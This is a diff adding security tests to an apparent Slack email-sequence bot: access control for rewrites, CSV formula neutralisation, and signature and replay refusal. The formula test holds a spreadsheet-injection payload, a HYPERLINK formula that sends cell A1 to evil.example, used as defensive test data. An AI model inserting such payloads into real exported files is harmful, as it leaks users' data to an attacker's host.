@@ -4,9 +4,12 @@ databases, the Slack side over signed HTTP against the fakes."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import logging
 import threading
+import time
 from concurrent.futures import ThreadPoolExecutor
 from datetime import UTC, datetime, timedelta
 
@@ -27,6 +30,8 @@ from sqlalchemy import insert, select, update
 
 from bot.slack import constants as K
 from bot.writing.events import SequenceEmail
+from bot.writing.export import export_sequence
+from bot.writing.export_formats import EXPORT_FORMATS
 from storage.db import reading, transaction
 from storage.encryption import TokenCipher, unreadable_tokens
 from storage.erasure import ERASED, forget_user_tokens
@@ -44,7 +49,7 @@ from storage.models import EmailRewrite, Workspace, slack_bots, slack_installati
 from storage.presses import first_press
 from storage.quota import QuotaPolicy
 from storage.retention import erase_expired_briefs, forget_workspace
-from storage.rewrites import finish_rewrite, start_rewrite
+from storage.rewrites import finish_rewrite, rewrite_history, start_rewrite
 from storage.settings import read_settings, save_settings, settings_history
 from storage.tokens import TokenUsage
 from storage.workspaces import ensure_workspace
@@ -462,3 +467,46 @@ def test_revoking_a_users_token_keeps_the_workspace_installed(
 def _user_token(engine):
     with reading(engine) as conn:
         return conn.execute(select(slack_installations.c.user_token)).scalar_one()
+
+
+def test_another_member_can_neither_regenerate_nor_rewrite_a_sequence(
+    make_app, slack, claude, sqlite_engine
+):
+    app = make_app()
+    gen = finished_sequence(app, slack, claude, sqlite_engine)
+    app.click(K.REGENERATE_ACTION, gen.id, user="U2", channel=gen.posted_channel_id)
+    refusal = slack.wait_for("response_url")[-1].params["text"]
+    assert "Only <@U1>, who wrote this sequence, or a workspace admin" in refusal
+    overflow = {
+        "type": "overflow",
+        "action_id": K.REWRITE_ACTION,
+        "block_id": "b",
+        "selected_option": {
+            "text": {"type": "plain_text", "text": "Shorter"},
+            "value": f"shorter|{gen.id}|2",
+        },
+    }
+    app.act(overflow, user="U2", channel=gen.posted_channel_id)
+    told = slack.wait_for("chat.postEphemeral")[-1].params
+    assert told["user"] == "U2" and "Only <@U1>" in told["text"]
+    assert len(generations(sqlite_engine)) == 1 and rewrite_history(sqlite_engine, gen.id) == []
+    assert BRIEF["problem"] not in all_text(slack.calls_to("chat.postEphemeral"))
+
+
+def test_exported_cells_that_would_run_as_formulas_are_neutralised():
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+    emails = [{**email, "subject_a": evil} for email in stored_sequence()]
+    for fmt in EXPORT_FORMATS:
+        content = export_sequence(fmt, emails, "Acme").content
+        if fmt.extension != "csv":
+            continue
+        cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
+        assert f"'{evil}" in cells and evil not in cells, fmt.key
+
+
+def test_a_request_signed_with_another_secret_or_replayed_late_is_refused(make_app, slack):
+    app = make_app()
+    body = app.interaction_body({"type": "block_actions"})
+    assert app.signed_post(body, signature="v0=" + "0" * 64).status == 401
+    assert app.signed_post(body, timestamp=int(time.time()) - 3600).status == 401
+    assert slack.calls_to("chat.postMessage") == []
